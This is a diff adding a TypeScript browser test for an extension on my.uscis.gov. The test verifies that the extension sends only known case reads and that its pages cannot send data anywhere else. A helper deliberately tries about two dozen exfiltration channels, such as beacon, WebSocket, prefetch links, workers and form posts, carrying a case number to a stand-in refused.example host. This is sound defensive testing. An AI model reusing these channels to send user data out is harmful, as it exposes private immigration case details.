@@ -1,0 +1,206 @@
+// Silence, as a recording proxy sees it: a long day of use sends nothing but reads of the known addresses of my.uscis.gov, and no
+// page of ours can send anything at all. Every assertion here is on what left the browser.
+import assert from 'node:assert/strict';
+import type { BrowserName } from '../../../scripts/browsers.ts';
+import { FIRST, SECOND, WORDS_OF_A } from '../cases-of-the-lab.ts';
+import type { Doc, Tab } from '../driver.ts';
+import { eventually, pause } from '../eventually.ts';
+import { dockWhen, isClosed, isOpen, panelOf, panelShows, pressBox } from '../look.ts';
+import type { Wire, WireRequest } from '../proxy.ts';
+import { savedReport } from '../report.ts';
+import type { Scenario } from '../stage.ts';
+
+const SITE = 'my.uscis.gov:443';
+const KNOWN_ADDRESS =
+  /^\/(?:account\/case-service\/api\/(?:cases|case_status)\/[A-Z]{3}\d{10}|account\/case-service\/api\/cases\/[A-Z]{3}\d{10}\/documents|account\/case-service\/api\/cases|secure-messaging\/api\/case-service\/receipt_info\/[A-Z]{3}\d{10})$/;
+/** What a browser itself adds to a read. `pragma` and `cache-control` come with "keep no copy on disk" (`no-store`). */
+const BROWSERS_OWN_HEADERS =
+  /^(?:host|connection|user-agent|accept-language|accept-encoding|referer|cookie|pragma|cache-control|te|priority|dnt|sec-gpc|sec-fetch-(?:site|mode|dest|user|storage-access)|sec-ch-ua(?:-mobile|-platform)?)$/;
+/** What the browsers ask for on their own account, with or without an extension. */
+const BROWSERS_OWN_HOSTS: Readonly<Record<BrowserName, RegExp>> = {
+  chromium: /^(?:update\.googleapis\.com|(?:accounts|www|clients\d?)\.google\.com|[a-z-]+\.gvt1\.com)(?::\d+)?$/,
+  firefox: /^[a-z0-9.-]+\.mozilla\.(?:com|org|net)(?::\d+)?$/,
+};
+
+const headerOf = ({ headers }: WireRequest, name: string): string => headers.find(([one]) => one === name)?.[1] ?? '';
+/** The site's own pages and files, and what its script asks for. */
+const isSitesOwn = (request: WireRequest): boolean =>
+  /^(?:document|script|style|image)$/.test(headerOf(request, 'sec-fetch-dest')) ||
+  headerOf(request, 'accept') === 'text/html';
+
+/** What is wrong with one request; null for nothing. */
+function wrongWith(request: WireRequest, browser: BrowserName): string | null {
+  const said = `${request.method} ${request.authority}${request.path}`;
+  if (request.authority !== SITE) {
+    const all = `${said} ${request.body} ${JSON.stringify(request.headers)}`;
+    if (!BROWSERS_OWN_HOSTS[browser].test(request.authority)) return `another host: ${said}`;
+    return WORDS_OF_A.test(all.replace(/I-\d{3}/g, '')) ? `words of a case in ${all}` : null;
+  }
+  if (isSitesOwn(request)) return null;
+  if (request.method !== 'GET') return `not GET: ${said}`;
+  if (!KNOWN_ADDRESS.test(request.path)) return `no known address: ${said}`;
+  if (request.body !== '' || headerOf(request, 'content-length') !== '') return `a body: ${said}`;
+  if (request.isUpgrade || !request.isSecure) return `not plain and secure: ${said}`;
+  if (headerOf(request, 'accept') !== 'application/json') return `Accept of ${said}: ${headerOf(request, 'accept')}`;
+  const foreign = request.headers.find(([name]) => name !== 'accept' && !BROWSERS_OWN_HEADERS.test(name));
+  return foreign === undefined ? null : `header ${foreign.join(': ')} on ${said}`;
+}
+
+function assertSilent(wire: Wire, browser: BrowserName, fewestReads: number): void {
+  const wrong = wire.requests.flatMap((request) => wrongWith(request, browser) ?? []);
+  assert.deepEqual([...new Set(wrong)], []);
+  const hosts = wire.connections.filter((one) => one !== SITE && !BROWSERS_OWN_HOSTS[browser].test(one));
+  assert.deepEqual([...new Set(hosts)], []);
+  assert.deepEqual(wire.strayBytes, []);
+  assert.deepEqual(wire.udpPackets, []);
+  const reads = wire.requests.filter(({ path }) => KNOWN_ADDRESS.test(path));
+  assert.ok(reads.length >= fewestReads, `Only ${String(reads.length)} reads went through the proxy.`);
+}
+
+/** Tries every way out there is, and says how each went. Runs in a page of ours; `given` names the surface. */
+async function tryEveryWayOut(given: string): Promise<string> {
+  const said: string[] = [];
+  const host = (way: string) => `${given}-${way}.refused.example`;
+  const attempt = async (way: string, work: (address: string) => unknown) => {
+    try {
+      const given_ = await Promise.race([
+        work(`https://${host(way)}/${way}?case=IOE0926301101`),
+        new Promise((done) => setTimeout(done, 700, 'silent')),
+      ]);
+      said.push(`${way}: ${String(given_)}`);
+    } catch (error) {
+      said.push(`${way} threw ${String(error).slice(0, 60)}`);
+    }
+  };
+  const element = (tag: string, set: (made: HTMLElement) => void) => {
+    const made = document.createElement(tag);
+    set(made);
+    document.body.append(made);
+  };
+  await attempt('fetch', (address) => fetch(address, { mode: 'no-cors' }));
+  await attempt('post', (address) => fetch(address, { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true }));
+  await attempt('site', () => fetch('https://my.uscis.gov/account/from-a-page-of-ours', { mode: 'no-cors' }));
+  await attempt('xhr', (address) => {
+    const request = new XMLHttpRequest();
+    request.open('GET', address);
+    request.send();
+  });
+  await attempt('socket', (address) => new WebSocket(address.replace('https', 'wss')));
+  await attempt('events', (address) => new EventSource(address));
+  await attempt('beacon', (address) => navigator.sendBeacon(address, 'x'));
+  await attempt('image', (address) => void (new Image().src = address));
+  for (const rel of ['prefetch', 'preload', 'prerender', 'modulepreload', 'stylesheet', 'icon', 'manifest'])
+    await attempt(rel, (address) =>
+      element('link', (made) => Object.assign(made, { rel, as: 'image', href: address })),
+    );
+  for (const tag of ['script', 'video', 'audio', 'iframe', 'embed', 'object'])
+    await attempt(tag, (address) =>
+      element(tag, (made) => Object.assign(made, tag === 'object' ? { data: address } : { src: address })),
+    );
+  await attempt('style', (address) => void (document.body.style.backgroundImage = `url(${address})`));
+  await attempt('font', (address) => new FontFace('x', `url(${address})`).load());
+  await attempt('worker', (address) => new Worker(address));
+  await attempt('ping', (address) => {
+    element('a', (made) => Object.assign(made, { href: '#', ping: address }));
+  });
+  return said.join('\n');
+}
+
+/** A form that is sent may take the document with it, so it comes last and alone. */
+const trySending = (doc: Doc, surface: string): Promise<unknown> =>
+  doc
+    .ask((given) => {
+      const form = document.createElement('form');
+      form.action = `https://${given}-form.refused.example/form`;
+      form.method = 'post';
+      const field = document.createElement('input');
+      field.name = 'case';
+      field.value = 'IOE0926301101';
+      form.append(field);
+      document.body.append(form);
+      form.submit();
+    }, surface)
+    .catch(() => null);
+
+async function fullTab(tab: Tab, own: () => Promise<Doc[]>): Promise<Doc> {
+  const panel = await panelOf(tab);
+  await panel.press('button', /Settings/);
+  await panelShows(tab, 'Open in a tab');
+  await panel.press('button', /Open in a tab/);
+  return eventually('the full tab stands', async () => {
+    const [doc] = await own();
+    assert.ok(doc, 'There is no tab of ours.');
+    assert.match(await doc.text(), /IOE09/);
+    return doc;
+  });
+}
+
+export const SILENCE: readonly Scenario[] = [
+  {
+    name: 'a long day of use sends nothing but reads of the known addresses, whatever goes wrong',
+    isRecorded: true,
+    async run({ browser, lab, wire }) {
+      lab.setFault({ address: 'documents', receipt: SECOND, kind: 'redirect-elsewhere' });
+      lab.setFault({ address: 'case_status', receipt: SECOND, kind: '503', times: 1 });
+      lab.setFault({ address: 'receipt_info', receipt: SECOND, kind: 'html-200' });
+      lab.setFault({ address: 'cases', receipt: 'IOE0926301103', kind: 'reset', times: 1 });
+      const tab = await browser.open('/account/applicant');
+      const panel = await panelShows(tab, /part3\.tif/, 20_000);
+      await panel.press('button', /Yes, it is mine/);
+      await panelShows(tab, FIRST);
+      await savedReport(browser, tab, { all: true, masked: true });
+      const look = await dockWhen(tab, 'the panel is open', isOpen);
+      assert.ok(look.handle);
+      await tab.drag({ x: look.handle.x + 6, y: 400 }, { x: look.handle.x - 90, y: 400 });
+      await (await panelOf(tab)).press('button', /Close Caseside/);
+      const closed = await dockWhen(tab, 'the panel is closed', isClosed);
+      await pressBox(tab, closed.launcher);
+      await dockWhen(tab, 'the panel is open again', isOpen);
+      await tab.page.press('a[data-nav]', /Inbox/);
+      await tab.page.press('a[data-nav]', /My cases/);
+      lab.change(FIRST, 'everything');
+      await tab.reload();
+      await panelShows(tab, FIRST, 20_000);
+      const other = await browser.open(`/account/case/${SECOND}`);
+      await panelShows(other, SECOND, 20_000);
+      await browser.stopBackground();
+      await other.reload();
+      await panelShows(other, SECOND, 20_000);
+      await fullTab(other, () => browser.ownTabs());
+      lab.endSessions();
+      await tab.go('/sign-in');
+      await eventually('nothing of a case is left', async () => {
+        for (const doc of await browser.ownTabs()) assert.doesNotMatch(await doc.text(), WORDS_OF_A);
+      });
+      await pause(1_500);
+      assertSilent(wire, browser.name, 32);
+    },
+  },
+  {
+    name: 'no page of ours can send anything: every way out is refused before a byte leaves',
+    isRecorded: true,
+    mayPrint:
+      /Content.Security.Policy|violates the following|Refused to|has been blocked|Failed to (?:load|construct)|NetworkError|Loading failed|can’t establish|manifest|preload/i,
+    async run({ browser, wire }) {
+      const tab = await browser.open('/account/applicant');
+      const panel = await panelShows(tab, /part3\.tif/, 20_000);
+      const own = await fullTab(tab, () => browser.ownTabs());
+      for (const [surface, doc] of [
+        ['panel', panel],
+        ['tab', own],
+      ] as const) {
+        const said = await doc.ask(tryEveryWayOut, surface);
+        assert.ok(said.split('\n').length > 20, said);
+        await trySending(doc, surface);
+      }
+      await pause(2_000);
+      const out = wire.requests.filter(
+        ({ authority, path }) => /refused\.example/.test(authority) || /from-a-page-of-ours/.test(path),
+      );
+      assert.deepEqual(
+        out.map(({ method, authority, path }) => `${method} ${authority}${path}`),
+        [],
+      );
+    },
+  },
+];
